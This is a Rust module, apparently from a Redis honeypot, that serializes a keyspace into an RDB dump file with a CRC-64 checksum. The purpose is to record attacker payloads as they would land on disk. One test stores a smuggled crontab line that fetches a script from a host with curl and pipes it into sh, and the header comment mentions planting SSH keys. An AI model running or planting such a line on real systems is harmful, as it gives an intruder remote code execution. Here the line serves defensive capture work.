//! The dump that SAVE writes, in the format of the server (RDB), so that what an intruder smuggles
//! through it (a crontab between line feeds, a key for authorized_keys) is captured as it would have
//! reached the disk.
//!
//! Source: <https://rdb.fnordig.de/file_format.html>; the checksum is CRC-64/Redis (Jones).

use super::keyspace::{Keyspace, Value};

/// The key space as a dump file. `version` is the server's, `now` in µs.
pub(super) fn dump(keys: &Keyspace, version: &str, major: u32, now: i64, used: usize) -> Vec<u8> {
    let format = match major {
        0..=5 => "0009",
        6 => "0009",
        _ => "0010",
    };
    let mut out = format!("REDIS{format}").into_bytes();
    for (key, value) in [
        ("redis-ver", version.to_owned()),
        ("redis-bits", "64".to_owned()),
        ("ctime", (now / 1_000_000).to_string()),
        ("used-mem", used.to_string()),
    ] {
        out.push(0xfa);
        text(key.as_bytes(), &mut out);
        text(value.as_bytes(), &mut out);
    }
    databases(keys, &mut out);
    out.push(0xff);
    let sum = crc64(&out);
    out.extend_from_slice(&sum.to_le_bytes());
    out
}

fn databases(keys: &Keyspace, out: &mut Vec<u8>) {
    let sizes = keys.summary();
    let mut current = None;
    for (number, key, value, expires) in keys.all() {
        if current != Some(number) {
            current = Some(number);
            let (_, count, expiring) =
                sizes.iter().find(|(known, _, _)| *known == number).copied().unwrap_or_default();
            out.push(0xfe);
            length(number, out);
            out.push(0xfb);
            length(count, out);
            length(expiring, out);
        }
        if let Some(at) = expires {
            out.push(0xfc);
            out.extend_from_slice(&(at / 1000).to_le_bytes());
        }
        entry(key, value, out);
    }
}

fn entry(key: &[u8], value: &Value, out: &mut Vec<u8>) {
    out.push(match value {
        Value::Text(_) => 0,
        Value::List(_) => 1,
        Value::Set(_) => 2,
        Value::Hash(_) => 4,
        Value::Sorted(_) => 5,
    });
    text(key, out);
    match value {
        Value::Text(bytes) => text(bytes, out),
        Value::List(items) => {
            length(items.len(), out);
            items.iter().for_each(|item| text(item, out));
        }
        Value::Set(items) => {
            length(items.len(), out);
            items.iter().for_each(|item| text(item, out));
        }
        Value::Hash(pairs) => {
            length(pairs.len(), out);
            for (name, value) in pairs {
                text(name, out);
                text(value, out);
            }
        }
        Value::Sorted(pairs) => {
            length(pairs.len(), out);
            for (member, score) in pairs {
                text(member, out);
                out.extend_from_slice(&score.to_le_bytes());
            }
        }
    }
}

fn text(bytes: &[u8], out: &mut Vec<u8>) {
    length(bytes.len(), out);
    out.extend_from_slice(bytes);
}

fn length(value: usize, out: &mut Vec<u8>) {
    let value = u32::try_from(value).unwrap_or(u32::MAX);
    let [first, second, third, fourth] = value.to_be_bytes();
    match value {
        0..=0x3f => out.push(fourth),
        0x40..=0x3fff => out.extend_from_slice(&[0x40 | third, fourth]),
        _ => out.extend_from_slice(&[0x80, first, second, third, fourth]),
    }
}

fn crc64(bytes: &[u8]) -> u64 {
    const POLYNOMIAL: u64 = 0x95ac_9329_ac4b_c9b5;
    let mut crc: u64 = 0;
    for &byte in bytes {
        crc ^= u64::from(byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ POLYNOMIAL } else { crc >> 1 };
        }
    }
    crc
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_checksum_is_the_one_of_the_server() {
        // The check value in crc64.c of the server.
        assert_eq!(crc64(b"123456789"), 0xe9c6_d914_c4b8_d9ca);
    }

    #[test]
    fn a_smuggled_line_stands_whole_in_the_dump() {
        let mut keys = Keyspace::default();
        let line = b"\n\n*/1 * * * * curl http://192.0.2.9/x | sh\n\n".to_vec();
        keys.set(0, b"x", Value::Text(line.clone()), None).unwrap();
        let dump = dump(&keys, "6.0.16", 6, 0, 1);
        assert!(dump.starts_with(b"REDIS0009"));
        assert!(dump.windows(line.len()).any(|window| window == line));
    }
}
